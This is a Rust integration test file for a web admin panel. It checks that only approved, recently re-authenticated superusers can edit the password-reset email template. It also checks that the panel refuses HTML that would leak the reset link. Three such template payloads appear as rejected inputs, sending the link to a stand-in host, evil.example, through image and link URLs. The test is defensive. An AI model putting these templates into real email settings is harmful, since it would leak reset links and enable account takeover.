//! Whoever may edit what notices say cannot read the secrets in them.

use jiff::SignedDuration;
use purser_testkit::{TestDb, both};

use crate::browser::PASSWORD;
use crate::test_site::{TestSite, TestSiteOptions};

const RESET: &str = "/admin/house/texts/house.password-reset/email/en/";
const TEST: &str = "/admin/house/texts/house.test/email/en/";

both! {
    async fn a_text_with_a_secret_takes_the_right_to_approve_and_a_recent_proof(db: TestDb) {
        let place = TestSite::with(&db, TestSiteOptions { sign_up: true, second_factor: false }).await;
        place.person("boss", "superuser", "").await;
        place.person("ravi", "staff", "house.operate").await;
        let (mut boss, mut ravi) = (place.signed_in("boss").await, place.signed_in("ravi").await);
        let fields = |html: &'static str| [("do", "save"), ("subject", "Reset"), ("text", "Open\n{{ link }}"), ("html", html)];
        assert_eq!(ravi.post(RESET, &fields("")).await.status, 403);
        assert_eq!(ravi.get(RESET).await.status, 403);
        let list = ravi.page("/admin/house/texts/").await;
        assert!(list.contains("house.test/") && !list.contains("house.password-reset/"), "{list}");
        let plain = [("do", "save"), ("subject", "Hello"), ("text", "{{ message }}"), ("html", "")];
        assert_eq!(ravi.post(TEST, &plain).await.status, 303, "what carries no secret, who operates may edit");
        assert_eq!(boss.post(RESET, &fields("<p>{{ link }}</p>")).await.status, 303);
        for html in [
            "<img src=\"https://evil.example/?{{ link }}\">",
            "<a href=\"https://evil.example/{{ link }}\">Open</a>",
            "{% for c in link %}<img src=\"https://evil.example/{{ c }}\">{% endfor %}",
        ] {
            let refused = boss.post(RESET, &fields(html)).await;
            assert!(refused.status == 400 && refused.text.contains("html-error"), "{html}: {}", refused.text);
        }
        db.clock().advance(SignedDuration::from_hours(1));
        let old = boss.post(RESET, &fields("<p>{{ link }} </p>")).await;
        assert!(old.status == 403 && old.text.contains("Prove that it is you"), "{} {}", old.status, old.text);
        let shown = boss.post(RESET, &[("do", "preview"), ("subject", "x"), ("text", "{{ link }}"), ("html", "")]).await;
        assert_eq!(shown.status, 200, "a look changes nothing: {}", shown.text);
        let proved = [fields("<p>{{ link }} </p>").as_slice(), &[("proof_password", PASSWORD)]].concat();
        assert_eq!(boss.post(RESET, &proved).await.status, 303);
    }
}
